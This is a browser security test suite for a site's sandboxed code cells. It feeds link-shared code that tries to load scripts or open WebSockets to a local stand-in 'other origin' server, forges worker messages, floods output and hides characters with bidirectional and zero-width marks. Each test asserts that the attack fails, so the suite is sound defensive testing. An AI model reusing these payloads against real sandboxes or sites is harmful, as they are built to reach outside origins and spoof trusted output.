/**
 * Cells that cannot reach out or lie (issue 16): every attack the review reproduced in Chromium,
 * tried again as an attacker would, against the built site. The code comes with a shared link
 * (?cell.<id>=...) and runs after one click on Run, as in the review. A second local server
 * plays the "other origin": it counts every request and WebSocket upgrade it receives, and must
 * receive none. The site is served without response headers (test/browser/harness.ts), so what
 * holds here holds on any static host: the <meta> policy of the pages and of the cells' sandbox.
 * Expected outputs come from the snippet's `// =>` comment (a hand calculation), never from the page.
 */
import { createServer, type Server } from 'node:http';
import { readFileSync } from 'node:fs';
import { join, resolve } from 'node:path';
import type { Locator, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { encodeCode } from '../../site/cells/share';
import { BUDGET } from '../../site/cells/protocol';
import { dist, external, open, useSite } from './harness';

const site = useSite();
const NAME = 'tf-same-example';
const original = readFileSync(resolve(__dirname, '../../site/snippets', `${NAME}.ts`), 'utf8').trimEnd();
/** What the verified snippet prints, from its comment. */
const verified = original.split('\n').find((l) => l.includes('// => '))!.split('// => ')[1].trim();
const compact = (s: string) => s.replace(/\s+/g, '');

/** The other origin: a server on another port that counts what reaches it. */
const other = { server: undefined as unknown as Server, base: '', hits: [] as string[] };
beforeAll(async () => {
  other.server = createServer((req, res) => {
    other.hits.push(`${req.method} ${req.url}`);
    res.writeHead(200, { 'content-type': req.url?.endsWith('.js') ? 'text/javascript' : 'text/plain', 'access-control-allow-origin': '*' });
    res.end(req.url?.endsWith('.js') ? 'export default 1; console.log("loaded from the other origin");' : 'other');
  });
  other.server.on('upgrade', (req, socket) => {
    other.hits.push(`UPGRADE ${req.url}`);
    socket.destroy();
  });
  await new Promise<void>((ok) => other.server.listen(0, '127.0.0.1', ok));
  const address = other.server.address();
  other.base = `http://127.0.0.1:${typeof address === 'object' && address ? address.port : 0}`;
});
afterAll(() => other.server.close());

const cellOf = (page: Page, name = NAME) => page.locator(`.cell[data-cell="${name}"]`);

async function ready(page: Page): Promise<void> {
  await page.waitForFunction(() => [...document.querySelectorAll('.cell')].every((c) => (c as HTMLElement).dataset.ready === 'true'));
}

async function settled(cell: Locator, states = ['done', 'error', 'stopped'], timeout = 30_000): Promise<string> {
  await cell.page().waitForFunction(([el, s]) => (s as string[]).includes((el as HTMLElement).dataset.state ?? ''), [await cell.elementHandle(), states] as const, { timeout });
  return (await cell.getAttribute('data-state'))!;
}

async function printed(cell: Locator): Promise<string[]> {
  return cell.locator('.cell-out-text > span').evaluateAll((spans) => spans.map((s) => s.textContent!));
}

/**
 * The home page opened from a link carrying `code` for its cell; with `second`, a second cell
 * holding the verified original is added after it (the page's cells share one runtime).
 */
async function fromLink(code: string, second = false) {
  const opened = await open(site.browser, 'about:blank');
  if (second) {
    await opened.page.addInitScript(() => {
      document.addEventListener('readystatechange', () => {
        if (document.readyState !== 'interactive') return;
        const first = document.querySelector<HTMLElement>('.cell[data-cell]');
        if (!first) return; // (init scripts run in every frame, the cells' sandbox too)
        const copy = first.cloneNode(true) as HTMLElement;
        copy.dataset.cell = 'second';
        copy.dataset.title = 'second.ts';
        copy.id = 'cell-second';
        first.after(copy);
      });
    });
  }
  await opened.page.goto(`${site.base}/?cell.${NAME}=${encodeCode(code)}`, { waitUntil: 'networkidle' });
  await ready(opened.page);
  return opened;
}

/** Clicks Run on the cell and waits until it settles. */
async function run(cell: Locator, states?: string[]): Promise<string> {
  await cell.locator('button[data-action=run]').click();
  return settled(cell, states);
}

const durations: string[] = [];
const timed = (name: string, body: () => Promise<void>, timeout?: number) =>
  it(name, async () => {
    const start = performance.now();
    await body();
    durations.push(`${((performance.now() - start) / 1000).toFixed(1)} s  ${name}`);
  }, timeout);
afterAll(() => console.info(`[cells-security] durations:\n  ${durations.join('\n  ')}`));

describe('the policy', () => {
  timed('every page carries a <meta> Content-Security-Policy first in <head>; the sandbox forbids every connection', async () => {
    const { page, context, errors } = await open(site.browser, `${site.base}/`);
    const policy = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
    expect(policy).toContain("connect-src 'self'");
    expect(policy).toContain("object-src 'none'");
    expect(policy).toContain("base-uri 'none'");
    expect(policy).toContain("'wasm-unsafe-eval'");
    expect(policy).not.toContain("'unsafe-eval'");
    expect(policy).not.toMatch(/script-src[^;]*'unsafe-inline'/);
    // Only <meta charset> comes before it (a meta policy binds what follows it).
    expect(await page.evaluate(() => document.head.firstElementChild?.getAttribute('charset'))).toBe('utf-8');
    expect(await page.evaluate(() => document.head.children[1]?.getAttribute('http-equiv'))).toBe('Content-Security-Policy');
    // The page itself cannot connect to another origin either.
    expect(await page.evaluate((url) => fetch(url).then(() => 'reached', (e) => `blocked ${e.name}`), `${other.base}/from-page`)).toBe('blocked TypeError');
    const sandbox = readFileSync(join(dist, 'cells-sandbox.html'), 'utf8');
    expect(/http-equiv="Content-Security-Policy" content="([^"]*)"/.exec(sandbox)?.[1]).toMatch(/^default-src 'none'; script-src 'unsafe-eval' 'wasm-unsafe-eval' 'sha256-[A-Za-z0-9+/=]+'; worker-src blob:; connect-src 'none'/);
    expect(other.hits).toEqual([]);
    expect(errors.filter((e) => !e.includes('Content Security Policy'))).toEqual([]);
    await context.close();
  });
});

describe('reach other origins', () => {
  timed('import(), eval/new Function import(), caches, FontFace, WebSocketStream, IndexedDB, OPFS: all refused, and the other origin hears nothing', async () => {
    const code = [
      `const other = '${other.base}';`,
      `const ws = '${other.base.replace('http', 'ws')}';`,
      'const tries = {',
      "  import: () => import(other + '/import.js'),",
      "  evalImport: () => (0, eval)(`import('${other}/eval.js')`),",
      "  functionImport: () => new Function(`return import('${other}/function.js')`)(),",
      "  cacheAdd: () => caches.open('x').then((c) => c.add(other + '/cache')),",
      "  fontFace: () => new FontFace('x', `url(${other}/font.woff2)`).load(),",
      "  webSocketStream: () => new WebSocketStream(ws + '/wss').opened,",
      "  webSocketProto: () => new (Object.getPrototypeOf(self).constructor.prototype.WebSocket ?? self.WebSocket)(ws + '/ws'),",
      "  indexedDB: () => new Promise((ok, no) => { const r = indexedDB.open('x'); r.onsuccess = () => ok(r.result); r.onerror = () => no(r.error); }),",
      '  opfs: () => navigator.storage.getDirectory(),',
      "  blobImport: () => import(URL.createObjectURL(new Blob(['export default 1'], { type: 'text/javascript' }))),",
      '};',
      'for (const [name, attempt] of Object.entries(tries)) {',
      '  try {',
      "    await Promise.race([attempt(), new Promise((_, no) => setTimeout(() => no(new Error('no answer')), 3000))]);",
      "    console.log(name, 'REACHED');",
      '  } catch (e) {',
      "    console.log(name, 'refused', e && e.name);",
      '  }',
      '}',
    ].join('\n');
    const { page, context } = await fromLink(code);
    const cell = cellOf(page);
    expect(await run(cell)).toBe('done');
    const lines = await printed(cell);
    expect(lines.map((l) => l.split(' ')[0])).toEqual(['import', 'evalImport', 'functionImport', 'cacheAdd', 'fontFace', 'webSocketStream', 'webSocketProto', 'indexedDB', 'opfs', 'blobImport']);
    console.info(`[cells-security] reach other origins:\n  ${lines.join('\n  ')}`);
    for (const line of lines) expect(line).toMatch(/^\w+ refused /);
    // Give anything in flight time to arrive, then count.
    await page.waitForTimeout(500);
    expect(other.hits).toEqual([]);
    await context.close();
  }, 90_000);
});

describe('forge or intercept the messages the page trusts', () => {
  timed("a forged {type: 'done'} followed by a busy loop: still running, Stop enabled, until the loop really ends", async () => {
    const code = [
      'for (let run = 0; run < 100; run++) { self.postMessage({ type: "done", run, ms: 40 }); postMessage({ type: "done", run, ms: 40 }); }',
      'const end = Date.now() + 3000;',
      'while (Date.now() < end) {}',
      "console.log('loop over');",
    ].join('\n');
    const { page, context, errors } = await fromLink(code);
    const cell = cellOf(page);
    await cell.locator('button[data-action=run]').click();
    await settled(cell, ['running']);
    await page.waitForTimeout(1500);
    expect(await cell.getAttribute('data-state')).toBe('running');
    expect(await cell.locator('button[data-action=stop]').isDisabled()).toBe(false);
    expect(await cell.locator('.cell-status').textContent()).not.toContain('Ran in');
    expect(await settled(cell)).toBe('done');
    expect(Number(await cell.getAttribute('data-run-ms'))).toBeGreaterThanOrEqual(2900);
    expect(await printed(cell)).toEqual(['loop over']);
    expect(errors).toEqual([]);
    await context.close();
  });

  timed('a cell that replaces self.postMessage, MessagePort.prototype.postMessage and console.log changes nothing a later verified cell shows, nor the same cell after Reset', async () => {
    const code = [
      "const forged = [{ kind: 'text', text: 'FORGED', level: 'log' }];",
      'const real = MessagePort.prototype.postMessage;',
      'MessagePort.prototype.postMessage = function (m) { return real.call(this, { ...m, items: forged }); };',
      'self.postMessage = () => {};',
      "console.log = () => display('FORGED');",
      "Array.prototype.map = function () { return ['FORGED']; };",
      "setTimeout(() => console.log('LATE'), 200);",
      "console.log('link code ran');",
    ].join('\n');
    const { page, context, errors } = await fromLink(code, true);
    const first = cellOf(page);
    const second = cellOf(page, 'second');
    expect(await run(first)).toBe('done');
    expect(await first.locator('.cell-notice').textContent()).toContain('the runtime restarted after it ran');
    expect(await run(second)).toBe('done');
    expect((await printed(second)).map(compact)).toEqual([compact(verified)]);
    await page.waitForTimeout(300);
    // The link cell's own output was its own to forge; the timer it left died with its runtime.
    expect(await second.locator('.cell-output').textContent()).not.toMatch(/FORGED|LATE/);
    expect(await first.locator('.cell-output').textContent()).not.toContain('LATE');
    // Reset, then Run: the verified original, as its comment says.
    await first.locator('button[data-action=reset]').click();
    await page.waitForFunction((el) => !(el as HTMLElement).dataset.fromLink, await first.elementHandle());
    expect(await run(first)).toBe('done');
    expect((await printed(first)).map(compact)).toEqual([compact(verified)]);
    expect(errors).toEqual([]);
    await context.close();
  });

  timed("the reader's own edits that patch console.log are gone after Reset (the runtime restarts)", async () => {
    const { page, context, errors } = await open(site.browser, `${site.base}/`);
    await ready(page);
    const cell = cellOf(page);
    await cell.locator('.expressive-code pre').click();
    await cell.locator('.cm-content').waitFor();
    await page.waitForFunction((el) => el.contains(document.activeElement), await cell.locator('.cm-editor').elementHandle());
    await page.keyboard.press('ControlOrMeta+a');
    await page.keyboard.insertText("console.log = () => display('PATCHED');\nconsole.log(1);");
    expect(await run(cell)).toBe('done');
    expect(await printed(cell)).toEqual(['PATCHED']);
    await cell.locator('button[data-action=reset]').click();
    await page.waitForFunction((el) => el.querySelector('.cell-status')?.textContent?.includes('Reset'), await cell.elementHandle());
    expect(await run(cell)).toBe('done');
    expect((await printed(cell)).map(compact)).toEqual([compact(verified)]);
    expect(errors).toEqual([]);
    await context.close();
  });

  timed("forged {type: 'output'} for every run number shows nowhere; postMessage(null), strings and odd shapes throw nothing on the page", async () => {
    const code = [
      'for (let run = 0; run < 200; run++) {',
      "  self.postMessage({ type: 'output', run, items: [{ kind: 'text', text: 'FAKE VERIFIED', level: 'log' }] });",
      "  self.postMessage({ type: 'error', run, error: { name: 'Fake', message: 'FAKE' }, ms: 1 });",
      '}',
      "for (const junk of [null, undefined, 'x', 1, [], { type: 'output' }, { type: 'output', run: 1, items: null }, { type: 'done' }]) self.postMessage(junk);",
      "console.log('after the junk');",
    ].join('\n');
    const { page, context, errors } = await fromLink(code, true);
    const first = cellOf(page);
    expect(await run(first)).toBe('done');
    expect(await printed(first)).toEqual(['after the junk']);
    expect(await run(cellOf(page, 'second'))).toBe('done');
    await page.waitForTimeout(300);
    expect(await page.locator('.cell-output').evaluateAll((els) => els.map((e) => e.textContent).join('|'))).not.toMatch(/FAKE/);
    expect(errors).toEqual([]);
    await context.close();
  });
});

describe('freeze the page', () => {
  timed('2,000 lines of 200,000 characters: the worker posts at most the budget, and says how much it left out', async () => {
    const code = "const line = 'x'.repeat(200000);\nfor (let i = 0; i < 2000; i++) console.log(line);";
    const { page, context, errors } = await fromLink(code);
    const cell = cellOf(page);
    const start = performance.now();
    expect(await run(cell)).toBe('done');
    const ms = performance.now() - start;
    const shown = await cell.locator('.cell-out-text > span').evaluateAll((spans) => spans.map((s) => s.textContent!.length));
    const total = shown.reduce((a, b) => a + b, 0);
    expect(total).toBeLessThanOrEqual(BUDGET.bytes + 1000);
    const note = (await printed(cell)).at(-1)!;
    // 4,000,000 characters hold 20 lines of 200,000: the other 1,980 are counted, not sent.
    expect(note).toContain(`(${2000 - BUDGET.bytes / 200_000} more output blocks not shown`);
    console.info(`[cells-security] 2,000 × 200,000 characters: ${shown.length - 1} lines shown, ${total} characters, Run to done ${ms.toFixed(0)} ms`);
    expect(errors).toEqual([]);
    await context.close();
  });

  timed('an endless stream of output: at most the block budget reaches the page, and the time limit still fires', async () => {
    const code = 'let i = 0;\nwhile (true) console.log(i++);';
    const { page, context, errors } = await fromLink(code);
    const cell = cellOf(page);
    const limit = Number(await cell.getAttribute('data-timeout')) * 1000;
    const start = performance.now();
    expect(await run(cell, ['stopped', 'done', 'error'])).toBe('stopped');
    const ms = performance.now() - start;
    expect(ms).toBeGreaterThanOrEqual(limit);
    expect(await cell.locator('.cell-out-stopped').textContent()).toContain('time limit');
    expect(await cell.locator('.cell-out-text > span').count()).toBeLessThanOrEqual(BUDGET.blocks);
    // The page answers: the figures on it still draw (a frame comes).
    expect(await page.evaluate(() => new Promise<string>((ok) => requestAnimationFrame(() => ok('frame'))))).toBe('frame');
    console.info(`[cells-security] endless output: stopped after ${ms.toFixed(0)} ms (limit ${limit} ms)`);
    expect(errors).toEqual([]);
    await context.close();
  }, 90_000);
});

describe('break the printer', () => {
  timed('an array that contains itself, 100,000 levels of nesting, a throwing getter, Symbols and BigInt all print', async () => {
    const code = [
      'const a = [1];',
      'a.push(a);',
      'console.log(a);',
      'let deep = [];',
      'for (let i = 0; i < 100000; i++) deep = [deep];',
      'console.log(deep);',
      "console.log({ get boom() { throw new Error('no'); } });",
      "console.log(Symbol('s'), 10n, { [Symbol('k')]: 2n });",
      "const numbers = [[1, 2]]; numbers[0].push(numbers);",
      'display(numbers);',
      "console.log('printer survived');",
    ].join('\n');
    const { page, context, errors } = await fromLink(code);
    const cell = cellOf(page);
    expect(await run(cell)).toBe('done');
    expect((await printed(cell)).map(compact)).toEqual([
      '[1,[Circular]]',
      '[[[[[[[Array]]]]]]]',
      '{boom:[Getter]}',
      'Symbol(s)10n{[Symbol(k)]:2n}',
      '[[1,2,[Circular]]]',
      'printersurvived',
    ]);
    expect(errors).toEqual([]);
    await context.close();
  });
});

describe('run without its own click', () => {
  timed('Run all skips a cell holding code from a link; that cell still runs from its own Run button', async () => {
    const { page, context, errors } = await fromLink("console.log('LINK RAN');", true);
    const first = cellOf(page);
    const second = cellOf(page, 'second');
    await second.locator('button[data-action=run-all]').click();
    expect(await settled(second)).toBe('done');
    expect(await first.getAttribute('data-state')).toBe('idle');
    expect(await first.locator('.cell-status').textContent()).toContain('Skipped');
    expect(await printed(first)).toEqual([]);
    expect((await printed(second)).map(compact)).toEqual([compact(verified)]);
    expect(await run(first)).toBe('done');
    expect(await printed(first)).toEqual(['LINK RAN']);
    expect(errors).toEqual([]);
    await context.close();
  });
});

describe('hide code', () => {
  // Every bidirectional control and zero-width character the review named, and more of the set.
  const hidden = ['\u202A', '\u202B', '\u202C', '\u202D', '\u202E', '\u2066', '\u2067', '\u2068', '\u2069', '\u200B', '\u200C', '\u200D', '\u2060', '\uFEFF', '\u061C', '\u200E', '\u200F', '\u00AD', '\u{E0041}'];
  timed('every invisible and bidirectional character in link code is marked in the editor and named in the notice', async () => {
    const code = `const ok = 1;${hidden.map((c, i) => `\n// ${i}${c}x`).join('')}\nconsole.log(ok);`;
    const { page, context, errors } = await fromLink(code);
    const cell = cellOf(page);
    await cell.locator('.cm-content').waitFor();
    expect(await cell.locator('.cm-content .cm-specialChar').count()).toBe(hidden.length);
    const notice = (await cell.locator('.cell-notice').textContent())!;
    expect(notice).toContain(`${hidden.length} invisible or text-direction characters`);
    for (const c of hidden) expect(notice).toContain(`U+${c.codePointAt(0)!.toString(16).toUpperCase().padStart(4, '0')}`);
    expect(errors).toEqual([]);
    await context.close();
  });
});

describe('the cells still work under the policy', () => {
  timed('the verified original runs; WebAssembly runs in the sandboxed worker; the worker has an opaque origin', async () => {
    const { page, context, errors } = await open(site.browser, `${site.base}/`);
    await ready(page);
    const cell = cellOf(page);
    expect(await run(cell)).toBe('done');
    expect((await printed(cell)).map(compact)).toEqual([compact(verified)]);
    expect(await page.locator('iframe[data-cells-sandbox]').getAttribute('sandbox')).toBe('allow-scripts');
    expect(errors).toEqual([]);
    await context.close();
    const linked = await fromLink([
      'const bytes = new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]);',
      'const module = await WebAssembly.compile(bytes);',
      "console.log(module instanceof WebAssembly.Module, self.origin);",
    ].join('\n'));
    expect(await run(cellOf(linked.page))).toBe('done');
    expect(await printed(cellOf(linked.page))).toEqual(['true null']);
    expect(linked.errors).toEqual([]);
    await linked.context.close();
  });
});

describe('where the host sends headers', () => {
  timed('the preview server sends each page its policy from _headers, and cells run under header and meta together', async () => {
    // @ts-expect-error: a JavaScript module without types
    const { previewServer }: { previewServer(root?: string): Server } = await import('../../scripts/preview.mjs');
    const server = previewServer(dist);
    await new Promise<void>((ok) => server.listen(0, '127.0.0.1', ok));
    const address = server.address();
    const base = `http://127.0.0.1:${typeof address === 'object' && address ? address.port : 0}`;
    try {
      const sandbox = await fetch(`${base}/cells-sandbox.html`);
      expect(sandbox.headers.get('content-security-policy')).toContain("connect-src 'none'");
      const home = await fetch(`${base}/`);
      const meta = /http-equiv="Content-Security-Policy" content="([^"]*)"/.exec(await home.text())?.[1].replace(/&#39;|&quot;/g, "'");
      expect(home.headers.get('content-security-policy')).toBe(meta);
      expect(home.headers.get('x-content-type-options')).toBe('nosniff');
      const { page, context, errors } = await open(site.browser, `${base}/`);
      await ready(page);
      expect(await run(cellOf(page))).toBe('done');
      expect((await printed(cellOf(page))).map(compact)).toEqual([compact(verified)]);
      expect(errors).toEqual([]);
      await context.close();
    } finally {
      server.close();
    }
  });
});

describe('offline', () => {
  it('no request left localhost, and the other origin received none', () => {
    expect(external).toEqual([]);
    expect(other.hits).toEqual([]);
  });
});
